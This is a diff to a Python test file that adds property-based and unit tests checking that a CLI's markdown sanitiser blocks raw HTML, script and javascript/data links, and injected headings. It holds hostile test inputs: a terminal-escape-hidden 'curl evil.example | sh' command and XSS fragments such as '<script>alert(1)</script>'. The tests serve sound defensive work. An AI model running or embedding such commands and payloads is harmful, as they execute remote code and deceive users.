@@ -161,3 +161,37 @@ def test_copy_puts_the_answer_as_shown_on_the_clipboard(tmp_path, monkeypatch):
     answer = "run \x1b]8;;http://evil.example\x07this\x1b]8;;\x07 safely\u202e\n\x1b[8mcurl evil.example | sh\x1b[0m\tdone"
     copy_to_clipboard(answer, None)
     assert clipboard.read_text() == "run this safely\ncurl evil.example | sh\tdone"
+
+
+def test_inline_code_keeps_its_angle_brackets_unless_the_spans_could_be_misread():
+    from llava_cli.markdownsafe import message
+
+    kept = tokens_of(message("Use `Vec<u8>` here, not <b>"))
+    assert [token.content for token in kept if token.type == "code_inline"] == ["Vec<u8>"]
+    assert not [token for token in kept if token.type.startswith("html")]
+    # A code span across two lines: guessing spans per line would have left <script> raw here.
+    tricked = tokens_of(message("x `a\nb` <script>alert(1)</script>` y`"))
+    assert not [token for token in tricked if token.type.startswith("html")]
+
+
+FRAGMENTS = ["<script>", "</div>", "<!--", "-->", "`", "```", "~~~", "\n", "\n\n", "# ", "## ", "===", "---", "> ", "- ",
+             "1. ", "    ", "[a]", "](", "]: ", "javascript:x", "https://ok", "<https://x>", "&#115;", "\\", "*", "text ",
+             "<a href='`'>", "\t", "\u2028", "![", "\r\n", "<?php", "[x]: data:y", "`<b>`"]
+
+
+def test_no_arrangement_of_markdown_pieces_gets_html_a_script_link_or_a_heading_out():
+    from hypothesis import given, settings, strategies as st
+
+    from llava_cli.markdownsafe import message
+
+    @settings(max_examples=300, deadline=None, derandomize=True)
+    @given(st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join))
+    def check(text: str) -> None:
+        tokens = tokens_of(message(text) + "\n\n## after")
+        assert not [token for token in tokens if token.type.startswith("html")]
+        targets = [token.attrGet("href") or token.attrGet("src") for token in tokens if token.type in ("link_open", "image")]
+        assert all(str(target).lower().startswith(("http://", "https://", "mailto:", "#")) for target in targets)
+        headings = [token.tag for token in tokens if token.type == "heading_open"]
+        assert headings[-1] == "h2" and "h1" not in headings and headings.count("h2") == 1
+
+    check()
